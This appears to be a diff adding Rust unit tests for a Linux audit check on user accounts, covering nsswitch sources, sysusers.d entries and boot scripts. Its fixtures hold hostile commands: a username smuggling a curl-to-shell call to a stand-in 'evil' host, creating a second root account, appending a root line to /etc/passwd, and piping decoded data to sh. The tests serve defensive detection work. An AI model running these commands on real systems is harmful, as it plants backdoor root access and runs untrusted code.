@@ -81,3 +81,59 @@ fn names_of_the_image_stay_one_word_in_fixes() {
     let quoted = |f: &&str| f.contains("userdel -f 'a;curl${IFS}evil|sh;#';");
     assert!(fixes.iter().any(quoted), "{fixes:?}");
 }
+
+#[test]
+fn accounts_from_elsewhere_are_not_known() {
+    let nss = |line: &str, files: &[&str]| {
+        let mut build = Build::bare().file("/etc/nsswitch.conf", 0o644, format!("{line}\n"));
+        for file in files {
+            build = build.file(file, 0o644, "x");
+        }
+        status("LNX-ACCT-003", build)
+    };
+    assert_eq!(nss("passwd: files systemd", &[]), Status::Pass);
+    assert_eq!(nss("passwd: sss files", &[]), Status::Pass);
+    assert_eq!(
+        nss("passwd: sss files", &["/etc/sssd/sssd.conf"]),
+        Status::Unknown
+    );
+    assert_eq!(nss("passwd: files own", &[]), Status::Unknown);
+    assert_eq!(
+        nss("shadow: files [NOTFOUND=return] own", &[]),
+        Status::Unknown
+    );
+    assert_eq!(nss("netgroup: nis", &["/etc/yp.conf"]), Status::Pass);
+    let record = Build::bare().file("/etc/userdb/ops.user", 0o644, "{}");
+    assert_eq!(status("LNX-ACCT-003", record), Status::Unknown);
+}
+
+#[test]
+fn accounts_that_are_made_at_boot_count() {
+    let line =
+        |path: &str, text: &str| status("LNX-ACCT-003", Build::bare().file(path, 0o644, text));
+    assert_eq!(
+        line("/usr/lib/sysusers.d/a.conf", "u ops 0 - /root /bin/bash\n"),
+        Status::Fail
+    );
+    assert_eq!(
+        line(
+            "/usr/lib/sysusers.d/a.conf",
+            "u ops 990 - / /usr/sbin/nologin\n"
+        ),
+        Status::Pass
+    );
+    let script = |text: &str| {
+        let text = format!("#!/bin/sh\n{text}\n");
+        status(
+            "LNX-ACCT-003",
+            Build::bare().file("/etc/rc.local", 0o755, text),
+        )
+    };
+    assert_eq!(script("useradd -o -u 0 ops"), Status::Unknown);
+    assert_eq!(
+        script("echo ops:x:0:0::/:/bin/sh >> /etc/passwd"),
+        Status::Unknown
+    );
+    assert_eq!(script("base64 -d /srv/x | sh"), Status::Unknown);
+    assert_eq!(script("grep root /etc/passwd"), Status::Pass);
+}
